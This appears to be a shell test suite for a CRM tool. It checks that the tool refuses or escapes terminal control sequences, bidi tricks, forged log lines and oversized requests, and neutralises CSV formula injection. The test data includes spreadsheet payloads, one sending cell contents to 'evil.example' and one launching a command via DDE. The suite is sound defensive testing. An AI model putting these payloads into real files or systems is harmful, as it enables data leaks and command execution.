# test_hostile - hostile input (issue 14): text that cannot lie, client output that survives
# hostile data, CSV that cannot attack a spreadsheet, answers that match, sized imports.
#
# Written from what a careless or hostile user can send and what a colleague's terminal must
# never do, not read back from the code. Under the Asan build every crm run here is also a
# memory-safety check of the client's output code (tables, cells, escaping).
source "$(dirname "$0")/lib.sh"
PROBE="$CRM_BIN/crm-probe"

init_data "$T/data"
start_server main "$T/data" --max-msg 65536
export CRM_CONFIG="$T/data/admin.enroll" CRM_SERVER="$EP_main"
c() { RC=0; "$CRM_CLI/crm" "$@" >"$T/o" 2>"$T/e" || RC=$?; OUT=$(cat "$T/o"); ERR=$(cat "$T/e"); }

# raw_controls FILE: how many characters in FILE a terminal would act on (C0 but newline and
# tab, DEL, C1, bidi embeddings/overrides/isolates, line separators, bytes that are not UTF-8)
raw_controls() {
    python3 - "$1" <<'PY'
import sys
t = open(sys.argv[1], 'rb').read().decode('utf-8', 'surrogateescape')
bad = [c for c in t if (ord(c) < 0x20 and c not in '\n\t') or 0x7f <= ord(c) <= 0x9f
       or 0x202a <= ord(c) <= 0x202e or 0x2066 <= ord(c) <= 0x2069 or ord(c) in (0x2028, 0x2029)
       or 0xdc80 <= ord(c) <= 0xdcff]
print(len(bad))
PY
}
clean_out() { test "$(raw_controls "$T/o")" -eq 0 -a "$(raw_controls "$T/e")" -eq 0; }
no_sanitizer() { ! grep -qE 'Sanitizer|runtime error' "$T/e"; }

# ---- item 2: the server refuses text that could lie ----
for bad in $'Evil\e[2J\e[HBoss' $'x\xc2\x9b31m' $'invoice\xe2\x80\xaegnp.exe' $'a\xe2\x81\xa6b' \
           $'Zhang\nstage  won' $'a\tb' $'a\rb' $'a\x7f' $'\xe2\x80\x8b\xe2\x80\x8b' $'\xe3\x85\xa4' \
           $'\xe2\x80\x8b \xef\xbb\xbf'; do
    shown=$(printf '%q' "$bad")
    c customer add --name "$bad"
    expect "refused: name $shown (rc $RC)" test "$RC" -eq 1
    expect "the refusal names the field: $ERR" contains "$ERR" "field '"
    expect "the refusal itself is shown escaped" clean_out
done
c customer add --name ok --custom $'k=\e]0;title\a'
expect "a control character in a custom value is refused" test "$RC" -eq 1
c customer add --name ok --company $'\xc2\x85next line'
expect "a C1 NEL in a single-line field is refused" test "$RC" -eq 1
RC=0; OUT=$("$PROBE" nul "$EP_main" "$T/data/admin.enroll" 2>&1) || RC=$?
expect "a NUL inside a name is refused by length, not cut short: $OUT" test "$RC" -eq 0
expect "the NUL refusal names the field" contains "$OUT" "'name' holds a NUL"
c --json customer list
expect "nothing was written by any refusal" test "$RC" -eq 0 -a -z "$OUT"
c customer add --name "张伟 Zhang"
expect "a name with letters is a name" test "$RC" -eq 0 -a "$OUT" = "created customer c1"
c activity log c1 --type note --summary "two lines" --body $'first line\n\tsecond line'
expect "a multi-line body keeps its newline and tab" test "$RC" -eq 0
c activity log c1 --type note --summary $'one\nline'
expect "a summary is one line" test "$RC" -eq 1
c activity log c1 --type note --summary x --body $'a\e[31m'
expect "a multi-line body still refuses escapes" test "$RC" -eq 1
c --json activity list c1
expect "the body comes back exactly" test "$(python3 -c 'import json,sys; print(repr(json.loads(sys.argv[1])["body"]))' "$OUT")" = "'first line\\n\\tsecond line'"
c activity show a1
expect "show prints the body on one line, escaped" contains "$OUT" 'first line\n\tsecond line'

# ---- item 8: a long multi-value cell (41 bytes in a 42-byte buffer) and long CJK, listed ----
c customer add --name "$(printf '长%.0s' $(seq 1 30))" --phone 100000001 --phone 2000000002 \
    --phone 3000000003 --phone 400000004 --company "$(printf 'Ω%.0s' $(seq 1 60))"
expect "a customer with four phones and a long CJK name" test "$RC" -eq 0
c customer list
expect "list survives the long cells (rc $RC)" test "$RC" -eq 0
expect "no sanitizer report from the client" no_sanitizer
expect "the phones cell is cut to 40 columns with an ellipsis" contains "$OUT" "100000001;2000000002;3000000003;4000000…"
width=$(python3 -c '
import sys, unicodedata
w = lambda s: sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in s)
print(max(w(cell) for line in sys.argv[1].splitlines() for cell in line.split("  ")))' "$OUT")
expect "no cell is wider than 40 columns (widest $width)" test "$width" -le 40
c customer search 长长
expect "search prints the same table" test "$RC" -eq 0
expect "no sanitizer report from search" no_sanitizer

# ---- item 8 and the client side of item 2: whatever a server sends is shown escaped ----
"$PROBE" fakeserver "$T/data" 120 >"$T/fake.out" 2>"$T/fake.err" &
FAKE=$!
SERVER_PIDS+=("$FAKE")
for _ in $(seq 1 $((100 * SLOW))); do grep -q '^READY ' "$T/fake.out" && break; sleep 0.05; done
EP_fake=$(awk '/^READY /{print $2}' "$T/fake.out")
export CRM_SERVER="$EP_fake"
for cmd in "customer list" "customer show c1" "customer search evil" "customer history c1" \
           "audit" "activity list c1" "whoami" "ping"; do
    # shellcheck disable=SC2086
    c $cmd
    expect "$cmd: hostile server text is read (rc $RC)" test "$RC" -eq 0
    expect "$cmd: no control character reaches the terminal" clean_out
    expect "$cmd: no sanitizer report" no_sanitizer
done
c customer list
expect "list: one header and one row, no forged row" test "$(wc -l <"$T/o")" -eq 2
expect "list: the escape is shown, not run" contains "$OUT" 'Evil\x1b[2J\x1b[HBoss\nc2'
c customer show c1
expect "show: a C1 CSI is shown as \\u009b" contains "$OUT" '\u009b31mACME\u202egnp.exe'
expect "show: a bidi isolate and a bad byte are shown" contains "$OUT" '\u2066isolate\xff'
c customer history c1
expect "history: a forged line stays on its line" test "$(grep -c '^2026-01-01' "$T/o")" -eq 0
expect "history: the old and new values are escaped" contains "$OUT" 'a\x1b[2J -> b\n2026-01-01'
c audit
expect "audit: the reason is escaped" contains "$OUT" 'why\nforged entry\u009b1m'
c customer delete c1
expect "an error message from the server is refused (rc $RC)" test "$RC" -eq 1
expect "the error message is one escaped line" test "$(wc -l <"$T/e")" -eq 1
expect "the error message shows its escapes" contains "$ERR" "no customer 'c1\\x1b[2J'\\nforged"
expect "the error message runs nothing" clean_out
c --json customer list
expect "--json: valid JSON that keeps every character" test "$(python3 -c '
import json, sys
r = json.loads(sys.argv[1])
print(r["name"] == "Evil\x1b[2J\x1b[HBoss\nc2  forged  row" and r["company"].startswith("\x9b31mACME\u202e")
      and r["address"].endswith("isolate\ufffd"))' "$OUT")" = True
expect "--json: escaped as JSON, nothing raw" clean_out
RC=0; timeout -s INT $((3 * SLOW)) "$CRM_CLI/crm" watch >"$T/o" 2>"$T/e" || RC=$?
OUT=$(cat "$T/o")
expect "watch: the hostile event is shown" contains "$OUT" 'mallory\x1b[2K'
expect "watch: nothing raw" clean_out
expect "watch: no sanitizer report" no_sanitizer
kill -TERM "$FAKE" 2>/dev/null; wait "$FAKE" 2>/dev/null || true
export CRM_SERVER="$EP_main"

# ---- item 3: CSV export cannot attack a spreadsheet, and round-trips ----
c customer add --name '=HYPERLINK("http://evil.example/?"&A1,"click")' --company "+cmd|' /C calc'!A0" \
    --phone "+44 20 7946 0958" --city "@SUM(1+1)" --industry "-2+3" --address "'quoted already"
expect "a customer made of formulas" test "$RC" -eq 0
CF=${OUT#created customer }
cell() { python3 -c 'import csv,sys; r=list(csv.DictReader(open(sys.argv[1]))); print(r[-1][sys.argv[2]])' "$1" "$2"; }
c export --csv --out "$T/x.csv"
expect "export ran" test "$RC" -eq 0
expect "= is neutralised" test "$(cell "$T/x.csv" name)" = "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
expect "+ is neutralised" test "$(cell "$T/x.csv" company)" = "'+cmd|' /C calc'!A0"
expect "@ is neutralised" test "$(cell "$T/x.csv" city)" = "'@SUM(1+1)"
expect "- is neutralised" test "$(cell "$T/x.csv" industry)" = "'-2+3"
expect "a +CC phone is neutralised too" test "$(cell "$T/x.csv" phones)" = "'+442079460958"
expect "a cell starting with a quote gets one more" test "$(cell "$T/x.csv" address)" = "''quoted already"
expect "ordinary cells are untouched" test "$(cell "$T/x.csv" stage)" = "lead"
expect "no cell starts with a formula character" test "$(python3 -c '
import csv, sys
print(sum(1 for r in csv.reader(open(sys.argv[1])) for v in r if v[:1] in ("=", "+", "-", "@", "\t", "\r")))' "$T/x.csv")" -eq 0
c export --csv --raw --out "$T/raw.csv"
expect "--raw writes cells as stored" test "$(cell "$T/raw.csv" name)" = '=HYPERLINK("http://evil.example/?"&A1,"click")'
python3 -c 'import csv,sys
r = list(csv.reader(open(sys.argv[1])))
csv.writer(open(sys.argv[2], "w", newline="")).writerows([r[0], r[-1]])' "$T/x.csv" "$T/one.csv"
c import --allow-duplicate "$T/one.csv"   # the same customer again, on purpose
expect "the neutralised export imports" test "$RC" -eq 0
c --json customer list --city "@SUM(1+1)"
expect "import removed exactly the quotes export added" test "$(python3 -c '
import json, sys
rs = [json.loads(l) for l in sys.argv[1].splitlines()]
print(len(rs) == 2 and rs[0]["name"] == rs[1]["name"] and rs[0]["company"] == rs[1]["company"]
      and rs[0]["phones"] == rs[1]["phones"] == ["+442079460958"]
      and rs[0]["address"] == rs[1]["address"] == "'"'"'quoted already")' "$OUT")" = True

# ---- item 4: every request gets an answer it can match ----
RC=0; OUT=$("$PROBE" toolarge "$EP_main" "$T/data/admin.enroll" 100000 2>&1) || RC=$?
expect "a request over --max-msg gets RESOURCE_EXHAUSTED with its id: $OUT" test "$RC" -eq 0
expect "the refusal says the limit" contains "$OUT" "over this server's limit of 65536 bytes"
expect "the server logs it" grep -q "bad request 4242 .*over this server's limit" "$T/main.log"
RC=0; OUT=$("$PROBE" badid "$EP_main" "$T/data/admin.enroll" 2>&1) || RC=$?
expect "a frame that does not decode is answered with its id: $OUT" test "$RC" -eq 0
RC=0; OUT=$("$PROBE" badop "$EP_main" "$T/data/admin.enroll" 2>&1) || RC=$?
expect "an unknown operation, and an op number past 32 bits, are answered with their ids: $OUT" \
    test "$RC" -eq 0
expect "the unknown one is named" contains "$OUT" "field 'op' has unknown value 999"
expect "the one past 32 bits is said to name no operation" contains "$OUT" "the request names no operation"
RC=0; OUT=$("$PROBE" oversize "$EP_main" "$T/data/admin.enroll" 200000 2>&1) || RC=$?
expect "beyond twice the limit libzmq still drops the frame" test "$RC" -eq 0

# Invisible characters (zero-width space, word joiner, BOM, soft hyphen, direction marks) are
# removed from one-line text: a pasted "李<U+200B>娜" is 李娜 - found by search and show, and
# a likely duplicate of the 李娜 at the same company
c customer add --name 李娜 --company 零宽公司 --phone 13700001111; ZW1=${OUT#created customer }
c customer add --name $'李\u200b娜' --company $'零宽\u2060公司'
expect "an invisible character does not make a new name: a likely duplicate" \
    contains "$ERR" "likely a duplicate of customer $ZW1"
c customer add --name $'\ufeff李\u200b娜\u00ad' --company 零宽公司 --allow-duplicate; ZW2=${OUT#created customer }
c --json customer show "$ZW2"
expect "... stored without them" test "$(field record.name)" = 李娜
c customer search 李娜
expect "... and found by search" contains "$OUT" "$ZW2"
# the whole class (Unicode's default ignorables: tag characters, fillers, format controls),
# and joiners or variation selectors after a Chinese character, where they do nothing
for v in $'李󠁁娜' $'李‌娜' $'李︀娜' $'李ﾠ娜' $'李ᅠ娜' $'李𛲠娜'; do
    hex=$(printf '%s' "$v" | od -An -tx1 | tr -d ' \n')
    c customer add --name "$v" --company 零宽公司
    expect "\"李<…>娜\" ($hex) is a likely duplicate of 李娜 too" \
        contains "$ERR" "likely a duplicate of customer $ZW1"
done
# ... and a search or a show typed or pasted with them finds the name
c customer search $'李\u200b娜' --count
expect "search 李<U+200B>娜 finds both 李娜 ($OUT)" test "$RC" -eq 0 -a "$OUT" = 2
c customer show $'李\U000E0041娜'
expect "show 李<U+E0041>娜 names the two 李娜, not no customer ($(head -1 <<<"$ERR"))" \
    contains "$ERR" "names 2 customer records"
c customer add --name $'\U0001F468\u200d\U0001F469 家' --company 零宽公司; ZWJ=${OUT#created customer }
c --json customer show "$ZWJ"
expect "... a joiner between emoji stays" test "$(field record.name)" = $'\U0001F468\u200d\U0001F469 家'

# crm import sizes its batches by bytes too: 600 wide rows (~4.7 kB each: 25 of them, a
# batch by count, would be ~117 kB, far over the 64 kB limit) all arrive
python3 - "$T/wide.csv" <<'PY'
import csv, sys
w = csv.writer(open(sys.argv[1], "w", newline=""))
w.writerow(["name", "company", "address", "city", "custom"])
for i in range(600):
    w.writerow(["wide %d" % i, "c" * 200, "a" * 500, "宽" * 20,
                ";".join("%s=%s" % (k, "x" * 990) for k in "abcd")])
PY
c import "$T/wide.csv"
expect "600 wide rows import under a 64 kB limit (rc $RC): $OUT" test "$RC" -eq 0 -a "$OUT" = "imported 600 customer records; 0 lines had errors"
python3 - "$T/huge.csv" <<'PY'
import csv, sys
w = csv.writer(open(sys.argv[1], "w", newline=""))
w.writerow(["name", "custom"])
w.writerow(["small", "k=v"])
w.writerow(["huge", ";".join("k%d=%s" % (i, "v" * 990) for i in range(90))])
w.writerow(["small too", ""])
PY
c import "$T/huge.csv"
expect "a record over the limit is a bad line, the others import (rc $RC)" test "$RC" -eq 1 -a "$OUT" = "imported 2 customer records; 1 line had errors"
expect "the bad line says why: $ERR" contains "$ERR" "line 3: the record is"
expect "... and names the limit" contains "$ERR" "over the server's request limit of 65536 bytes"

# the server's own log escapes what clients sent: a refused value cannot forge a log line
c customer list --stage $'x\n2026-11-30T00:00:00.000Z WARN  crmd: forged'
expect "a bad filter value is refused" test "$RC" -eq 1
expect "the refusal was logged" grep -q "bad request" "$T/main.log"
expect "the server log has no raw control character" test "$(raw_controls "$T/main.log")" -eq 0
expect "no forged log line" test "$(grep -c '^2026-11-30T00:00:00.000Z WARN  crmd: forged' "$T/main.log")" -eq 0

stop_server main

# ---- item 1: bounded work per request - a worst case while another client pings ----
# A custom map of 20000 keys (limit 100) used to be checked pair by pair before its size:
# about a second of the server thread per request, every other client waiting.
init_data "$T/data2"
start_server big "$T/data2"
# The best of up to 3 runs counts, as in test_limits: under ThreadSanitizer, twice in CI (and
# never on an idle machine: 11-14 ms there) one ping of a run took 345 ms; a server thread
# held by each request would be slow in every run.
for try in 1 2 3; do
    RC=0; OUT=$("$PROBE" pingunder "$EP_big" "$T/data2/admin.enroll" 20000 10 2>&1) || RC=$?
    echo "# $(echo "$OUT" | tail -1)"
    worst=$(echo "$OUT" | awk '/slowest ping/{print int($NF == "ms" ? $(NF-1) : $NF)}')
    [ "$RC" -eq 0 ] && quick_enough "$worst" 50 && break
done
expect "every oversized map is refused" test "$RC" -eq 0
expect_quick "the slowest ping behind one" "$worst" 50

# A list or search whose filter is checked record by record (a range on a number, a view,
# a substring) reads at most 2,000 candidates per request: a page cut short says where to go
# on, and crm follows it, so the one match after 2,500 others is still found - in two
# requests, not one long one (the audit trail of the admin's reads shows each).
"$CRM_BIN/crm-bench" --config "$T/data2/admin.enroll" --server "$EP_big" --preload 2500 \
    --clients 2 --threads 1 --duration 1 --mix 100,0,0,0,0 >"$T/pre.out" 2>&1
export CRM_SERVER="$EP_big" CRM_CONFIG="$T/data2/admin.enroll"
c customer add --name 最后一位 --phone 13911112222; LASTC=${OUT#created customer }
c order add "$LASTC" --line 'sku=Z,quantity=1,unit_price=1'
c --json customer list --order-count 1..
expect "a record-by-record filter finds the one match after 2,500 others" \
    test "$(grep -o '"id":"c[0-9]*"' "$T/o" | sort -u)" = "\"id\":\"$LASTC\""
c --json audit --user admin --limit 200
pages=$(grep -c 'order_count=1\.\.' "$T/o" || true)
expect "the server answered it in more than one bounded request ($pages)" test "$pages" -ge 2
c --json customer list --order-count 1.. --limit 1
expect "and with --limit 1 too" \
    test -n "$(grep -o "$LASTC" "$T/o")"

# An import holds up nobody: a staff user's import of 200 new names at a company of 400
# customers (each line compared with the names there for likely duplicates) while another
# connection pings. In batches of 500 lines one batch held every client for 120 ms, and
# near 400 ms at a company of 2,000; the server now takes 25 lines a request and reads the
# company's names once per request. Best of up to 3 runs, as above.
python3 - "$T" <<'PY'
import random, sys
chars = "王李张刘陈杨黄赵吴周徐孙马朱胡郭何高林罗郑梁谢宋唐许韩冯邓曹彭曾肖伟芳娜秀英敏静丽强磊军洋勇艳杰"
for name, n, seed in (("company", 400, 1), ("new1", 200, 2), ("new2", 200, 3), ("new3", 200, 4)):
    random.seed(seed)
    with open(f"{sys.argv[1]}/{name}.csv", "w") as f:
        f.write("name,company\n")
        for i in range(n):
            f.write("".join(random.choice(chars) for _ in range(random.randint(3, 6))) + ",同一公司\n")
PY
c import "$T/company.csv" --allow-duplicate
expect "a company of 400 customers" contains "$OUT" "imported 400 customer records"
for try in 1 2 3; do
    rm -f "$T/stop"
    "$PROBE" pings "$EP_big" "$T/data2/admin.enroll" $((30 * SLOW)) "$T/stop" >"$T/pings.out" 2>&1 &
    PINGS=$!
    wait_for 'grep -q "^ready" "$T/pings.out"' # connected: its pings time the import
    c import "$T/new$try.csv"
    touch "$T/stop"
    RC2=0; wait "$PINGS" || RC2=$?
    echo "# import: $(tail -1 "$T/o"); $(tail -1 "$T/pings.out")"
    worst=$(awk '/^pings:/{print int($NF == "ms" ? $(NF-1) : $NF)}' "$T/pings.out")
    [ "$RC2" -eq 0 ] && quick_enough "$worst" 30 && break
done
expect "the import ran" grep -qE "imported [1-9][0-9]* customer records" <<<"$OUT"
expect "pings during it are answered ($(grep -o 'pings: [0-9]*' "$T/pings.out"))" \
    bash -c "[ $RC2 -eq 0 ] && grep -qE '^pings: [1-9]' '$T/pings.out'"
expect_quick "the slowest ping during it" "$worst" 30

# A delete or merge that would carry more than 5,000 records in one change is refused before
# anything is read or staged: it used to stage them all first (pings behind it: 94-103 ms).
# Only in the optimized build (SLOW 1): 6,000 activities take too long to make under the
# sanitizers, and the point is a latency.
if [ "$SLOW" -eq 1 ]; then
    c customer add --name 大客户 --phone 13700000001; BIGC=${OUT#created customer }
    python3 -c "
import sys
print('customer_id,type,summary')
for i in range(6000): print('$BIGC,call,s%d' % i)" >"$T/acts.csv"
    c import --kind activity "$T/acts.csv"
    expect "a customer with 6,000 activities" contains "$OUT" "imported 6000 activity records"
    for what in "customer delete $BIGC --yes" "customer merge $LASTC $BIGC"; do
        rm -f "$T/stop"
        "$PROBE" pings "$EP_big" "$T/data2/admin.enroll" 30 "$T/stop" >"$T/pings.out" 2>&1 &
        PINGS=$!
        wait_for 'grep -q "^ready" "$T/pings.out"'
        c $what
        sleep 0.1
        touch "$T/stop"
        RC2=0; wait "$PINGS" || RC2=$?
        worst=$(awk '/^pings:/{print int($NF == "ms" ? $(NF-1) : $NF)}' "$T/pings.out")
        expect "$what: refused as too large (${ERR})" contains "$ERR" RESOURCE_EXHAUSTED
        expect "... pings behind it are answered ($(grep -o 'pings: [0-9]*' "$T/pings.out"))" \
            bash -c "[ $RC2 -eq 0 ] && grep -qE '^pings: [1-9]' '$T/pings.out'"
        expect_quick "... at once: the slowest ping behind it" "$worst" 30
    done
    c --json customer show "$BIGC"
    expect "... and the customer is untouched" test "$RC" -eq 0
fi
stop_server big
finish
